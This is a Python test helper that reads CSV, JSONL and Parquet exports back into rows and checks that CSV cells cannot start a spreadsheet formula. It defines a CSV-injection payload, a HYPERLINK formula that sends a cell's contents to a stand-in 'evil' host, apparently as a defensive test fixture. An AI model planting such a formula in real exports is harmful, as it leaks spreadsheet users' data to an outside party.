"""Exports read back: the rows of a file, as JSON has them, whatever its format."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from typing import Any

import pyarrow.parquet

from lockledger.formats import Columns

Rows = list[dict[str, Any]]
FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
FORMATS: tuple[Any, ...] = ("csv", "jsonl", "parquet")


def plain(cell: str) -> str:
    """A text of a CSV file as it was: what the reference tells its readers to do."""
    return re.sub(r"(^|[;\t\r\n])'", r"\1", cell)


def exported(write: Callable[..., int], form: str, **wanted: Any) -> tuple[int, bytes]:
    """What a verb says that it wrote, and what it wrote."""
    stream = io.BytesIO()
    count = write(stream, format=form, **wanted)
    return count, stream.getvalue()


def read(form: str, data: bytes, columns: Columns) -> Rows:
    """The rows of a file; columns that are not named are texts."""
    if form == "jsonl":
        return [json.loads(line) for line in data.decode().splitlines()]
    return (_read_csv if form == "csv" else _read_parquet)(data, columns)


def _read_csv(data: bytes, columns: Columns) -> Rows:
    values: dict[str, Callable[[str], Any]] = {"count": int, "json": json.loads}
    rows: Rows = []
    for cells in csv.DictReader(io.StringIO(data.decode(), newline="")):
        for cell in cells.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", '"=')), cell
        rows.append(
            {
                name: values.get(columns.get(name, "text"), str)(plain(cell)) if cell else None
                for name, cell in cells.items()
            }
        )
    return rows


def _read_parquet(data: bytes, columns: Columns) -> Rows:
    rows: Rows = pyarrow.parquet.read_table(io.BytesIO(data)).to_pylist()
    for row in rows:
        for name, kind in columns.items():
            if row[name] is None:
                continue
            if kind == "json":
                row[name] = json.loads(row[name])
            elif kind == "instant":
                row[name] = row[name].isoformat().replace("+00:00", "Z")
    return rows
